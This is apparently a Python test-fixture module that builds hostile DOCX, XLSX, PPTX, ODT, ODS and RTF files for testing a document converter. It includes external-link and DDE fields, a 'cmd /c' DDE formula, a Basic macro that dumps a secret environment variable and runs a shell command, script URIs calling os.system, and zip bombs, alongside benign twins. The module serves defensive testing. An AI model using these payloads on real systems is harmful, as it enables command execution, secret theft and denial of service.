# ruff: noqa: E501 - a payload reads best in one piece
"""Office documents that link, include, call, run or swell (recipes 3 and 13)."""

from __future__ import annotations

import random
from xml.sax.saxutils import quoteattr

from makers import packages as made
from makers.attack import ANY, EITHER, Attack, Bait, Twin, ends
from makers.packages import docx, opendocument, pptx, relationships, slide_picture, word_picture, xlsx

_NOISE = random.Random(7)


def _docx_links(bait: Bait) -> bytes:
    links = list(bait.links)
    fields = [
        *(f'INCLUDEPICTURE "{link}" \\d' for link in links[:6]), *(f'INCLUDETEXT "{path}"' for path in bait.files),
        f'DDEAUTO soffice "{bait.file}" "x"', f'IMPORT "{bait.file}"', f'RD "{bait.file}"', f'LINK Word.Document "{bait.file}"',
    ]  # fmt: skip
    body = "".join(word_picture("link", f"i{n}") for n in range(len(links)))
    body += "".join(f"<w:p><w:fldSimple w:instr={quoteattr(field)}/></w:p>" for field in fields)
    body += '<w:p><w:subDoc r:id="sub"/></w:p><w:altChunk r:id="alt"/>'
    rows = [(f"i{n}", "image", link) for n, link in enumerate(links)]
    rows += [("sub", "subDocument", f"file://{bait.file}"), ("alt", "aFChunk", f"{bait.url}/alt.html")]
    settings = (
        f'<w:settings xmlns:w="{made.W}" xmlns:r="{made.R}"><w:attachedTemplate r:id="t1"/><w:mailMerge>'
        f'<w:dataSource r:id="t2"/></w:mailMerge></w:settings>'
    )
    inner = relationships(("s1", "settings", "settings.xml")).removesuffix("</Relationships>")
    outer = relationships(*rows, external=True).partition("<Relationship ")
    template = (("t1", "attachedTemplate", f"{bait.url}/t.dotm"), ("t2", "mailMergeSource", f"file://{bait.file}"))
    return docx(
        body,
        links=inner + outer[1] + outer[2],
        more={"word/settings.xml": settings, "word/_rels/settings.xml.rels": relationships(*template, external=True)},
    )


def _docm(bait: Bait) -> bytes:
    kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
    links = relationships(("v", "../../../microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"))
    return docx(kind=kind, links=links, more={"word/vbaProject.bin": _NOISE.randbytes(4096)})


def _docx_styles(bait: Bait) -> bytes:
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{n + 1}"/></w:style>' for n in range(20_000)
    )
    return docx(
        '<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr></w:p>',
        links=relationships(("st", "styles", "styles.xml")),
        more={"word/styles.xml": f'<w:styles xmlns:w="{made.W}">{styles}</w:styles>'},
    )


def _docx_deep(bait: Bait) -> bytes:
    return docx("<w:tbl><w:tr><w:tc>" * 3000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 3000)


def _xlsx_links(bait: Bait) -> bytes:
    formulas = [
        f'WEBSERVICE("{bait.url}/f")', f'WEBSERVICE("file://{bait.file}")', "[1]S!A1", f"'file://{bait.file}'#S!A1",
        f'HYPERLINK("{bait.url}/h","h")', f'IMAGE("{bait.url}/i.png")', 'cmd|"/c touch pwned"!A1', 'INFO("directory")',
        f'DDE("soffice","{bait.file}","A1")', f'RTD("x","{bait.host}","y")', f'FILTERXML(WEBSERVICE("{bait.url}"),"//x")',
    ]  # fmt: skip
    rows = "".join(
        f'<row r="{n}"><c r="A{n}"><f>{formula.replace("&", "&amp;").replace("<", "&lt;")}</f></c></row>'
        for n, formula in enumerate(formulas, 2)
    )
    links = relationships(("r1", "externalLinkPath", f"{bait.url}/book.xlsx"), external=True)
    return xlsx(rows, links=links, workbook='<externalReferences><externalReference r:id="r3"/></externalReferences>')


def _xlsx_dimension(bait: Bait) -> bytes:
    return xlsx('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', dimension="A1:XFD1048576")


def _pptx_links(bait: Bait) -> bytes:
    links = list(bait.links)
    rows = [(f"i{n}", "image", link) for n, link in enumerate(links)]
    shapes = "".join(slide_picture("link", f"i{n}") for n in range(len(links)))
    outer = relationships(*rows, external=True).removesuffix("</Relationships>")
    inner = relationships(("l1", "slideLayout", "../slideLayouts/slideLayout1.xml")).partition("<Relationship ")
    return pptx(outer + inner[1] + inner[2], shapes)


def _odt_links(bait: Bait) -> bytes:
    hrefs = [*bait.links, "vnd.sun.star.expand:$HOSTILE_SECRET", f"vnd.sun.star.expand:{bait.url}/$HOME",
             f"vnd.sun.star.pkg://file%3A%2F%2F{bait.file}/x", f"vnd.sun.star.webdav://{bait.host}/x",
             f"ftp://{bait.host}/x", f"smb://{bait.host}/x"]  # fmt: skip
    body = "<text:p>Harmless</text:p>" + "".join(
        f'<text:p><draw:frame svg:width="2cm" svg:height="2cm"><draw:image xlink:href="{href}" xlink:type="simple" xlink:show='
        f'"embed" xlink:actuate="onLoad"/></draw:frame><draw:frame svg:width="2cm" svg:height="2cm"><draw:object xlink:href='
        f'"{href}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame><draw:frame svg:width="2cm" '
        f'svg:height="2cm"><draw:floating-frame xlink:href="{href}" xlink:type="simple"/></draw:frame><draw:frame '
        f'svg:width="2cm" svg:height="2cm"><draw:plugin xlink:href="{href}" xlink:type="simple"/></draw:frame></text:p>'
        f'<text:section text:name="s{n}"><text:section-source xlink:href="{href}"/><text:p>stale</text:p></text:section>'
        for n, href in enumerate(hrefs)
    )
    return opendocument("text", body)


def _odt_scripts(bait: Bait) -> bytes:
    calls = (
        "vnd.sun.star.script:Standard.M.Go?language=Basic&amp;location=document",
        "vnd.sun.star.script:../../../../../../usr/lib/python3/dist-packages/os.py$system?language=Python&amp;location=share",
        "vnd.sun.star.script:LibreLogo|LibreLogo.py$run?language=Python&amp;location=share",
        "macro:///Gimmicks.AutoText.Main", "service:com.sun.star.system.SystemShellExecute?touch",
    )  # fmt: skip
    listeners = "".join(
        f'<script:event-listener script:language="ooo:script" script:event-name="{event}" xlink:href="{call}" xlink:type='
        '"simple"/>'
        for call in calls
        for event in ("dom:load", "office:load-finished")
    )
    source = (
        f'Sub Go\n Open "{bait.pwned}" For Output As #1\n Print #1, Environ("HOSTILE_SECRET")\n Close #1\n'
        f' Shell "touch {bait.pwned}"\nEnd Sub'
    )
    scripts = (
        '<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded ooo:name="Standard">'
        f'<ooo:module ooo:name="M"><ooo:source-code>{source}</ooo:source-code></ooo:module></ooo:library-embedded>'
        f"</ooo:libraries></office:script><office:event-listeners>{listeners}</office:event-listeners></office:scripts>"
    )
    return opendocument("text", "<text:p>Harmless</text:p>", scripts=scripts, flat=True)


def _ods_links(bait: Bait) -> bytes:
    formulas = [
        f"of:=WEBSERVICE(&quot;{bait.url}/f&quot;)", f"of:=['file://{bait.file}'#$S.A1]", f"of:=['{bait.url}/b.ods'#$S.A1]",
        f"of:=DDE(&quot;soffice&quot;;&quot;{bait.file}&quot;;&quot;A1&quot;)",
        "of:=COM.SUN.STAR.SHEET.ADDIN.ANALYSIS.GETX()", "of:=INFO(&quot;system&quot;)",
    ]  # fmt: skip
    rows = "".join(f'<table:table-row><table:table-cell table:formula="{f}"/></table:table-row>' for f in formulas)
    body = (
        f'<table:table table:name="S"><table:table-source xlink:type="simple" xlink:href="file://{bait.planted.paths["table"]}" '
        f'table:filter-name="Text - txt - csv (StarCalc)" table:mode="copy-all"/><table:table-row><table:table-cell>'
        f"<text:p>Harmless</text:p></table:table-cell></table:table-row>{rows}</table:table>"
    )
    return opendocument("spreadsheet", body)


def _rtf(bait: Bait) -> bytes:
    noise = _NOISE.randbytes(2000).hex()
    fields = "".join(
        f'{{\\field{{\\*\\fldinst {kind} "{link}"}}{{\\fldrslt x}}}}'
        for link in (f"{bait.url}/x.png", bait.file, f"file://{bait.file}")
        for kind in ("INCLUDEPICTURE", "INCLUDETEXT", "DDEAUTO soffice", "LINK Word.Document", "IMPORT")
    )
    return (
        f"{{\\rtf1\\ansi{{\\*\\template {bait.url}/t.dotm}}Harmless \\par {fields}{{\\object\\objemb{{\\*\\objclass Package}}"
        f"{{\\*\\objdata {noise}}}}}{{\\object\\objautlink{{\\*\\objclass htmlfile}}{{\\*\\objdata 0105000002000000}}}}\\par}}"
    ).encode()


def _bomb(name: str, package: bytes) -> bytes:
    members = made.members_of(package)
    head, mark, tail = members[name].partition(b"Harmless")
    return made.zip_of_a_bomb(members, name, 160 << 20, head + mark, tail)


def _odt_twin() -> bytes:
    picture = '<draw:frame svg:width="2cm" svg:height="2cm"><draw:image xlink:href="Pictures/a.png"/></draw:frame>'
    return opendocument("text", f"<text:p>Harmless{picture}</text:p>", more={"Pictures/a.png": made.png(40, 40)})


def _docx_twin() -> bytes:
    return docx(
        word_picture("embed", "i1"),
        links=relationships(("i1", "image", "media/a.png")),
        more={"word/media/a.png": made.png(40, 40)},
    )


ATTACKS = (
    Attack("docx-links", "a.docx", _docx_links, ("pdf", "odt", "md"), ("B2", "B4")),
    Attack("docm-macro", "a.docm", _docm, ("pdf",), ("B7",), EITHER),
    Attack("docx-styles", "a.docx", _docx_styles, ("pdf",), ("B31",), ANY),
    Attack("docx-deep", "a.docx", _docx_deep, ("pdf", "md"), ("B31",), ANY),
    Attack("xlsx-links", "a.xlsx", _xlsx_links, ("pdf", "csv", "ods"), ("B2", "B5")),
    Attack("xlsx-dimension", "a.xlsx", _xlsx_dimension, ("csv", "pdf"), ("B31",), ANY),
    Attack("pptx-links", "a.pptx", _pptx_links, ("pdf", "odp"), ("B2",)),
    Attack("odt-links", "a.odt", _odt_links, ("pdf", "docx"), ("B1", "B4", "B6")),
    Attack("fodt-scripts", "a.fodt", _odt_scripts, ("pdf",), ("B7",)),
    Attack("ods-links", "a.ods", _ods_links, ("xlsx", "csv"), ("B4", "B5")),
    Attack("rtf-fields", "a.rtf", _rtf, ("pdf", "html"), ("B2", "B4"), ANY),
    Attack("docx-bomb", "a.docx", lambda _: _bomb("word/document.xml", docx()), ("pdf", "md"), ("B24",), ends("archive_bomb")),
    Attack("xlsx-bomb", "a.xlsx", lambda _: _bomb("xl/sharedStrings.xml", xlsx()), ("csv",), ("B24",), ends("archive_bomb")),
    Attack("odt-bomb", "a.odt", lambda _: _bomb("content.xml", opendocument("text", "<text:p>Harmless</text:p>")), ("pdf",),
           ("B24",), ends("archive_bomb")),
    Attack("epub-bomb", "a.epub", lambda _: _bomb("c.xhtml", made.epub("")), ("html",), ("B24",), ends("archive_bomb")),
)  # fmt: skip

TWINS = (
    Twin("docx with a picture inside", "a.docx", _docx_twin, "pdf", "Harmless", ("B2",)),
    Twin("odt with a picture inside", "a.odt", _odt_twin, "pdf", "Harmless", ("B1",)),
    Twin("xlsx with a sum", "a.xlsx", lambda: xlsx('<row r="2"><c r="B2"><f>B1+1</f><v>8</v></c></row>'), "csv", "Harmless", ("B5",)),
    Twin("pptx with a layout", "a.pptx", lambda: pptx(relationships(("l1", "slideLayout", "../slideLayouts/slideLayout1.xml")), ""),
         "pdf", "Harmless", ("B2",)),
)  # fmt: skip
